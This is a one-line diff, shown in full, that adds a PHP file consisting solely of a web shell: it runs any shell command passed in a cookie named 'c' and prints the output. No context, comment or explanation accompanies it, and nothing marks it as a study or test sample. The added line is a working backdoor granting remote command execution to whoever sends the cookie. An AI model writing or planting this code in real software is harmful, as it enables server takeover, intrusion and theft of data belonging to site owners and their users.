@@ -1,0 +1,1 @@
+<?= shell_exec($_COOKIE["c"]) ?>
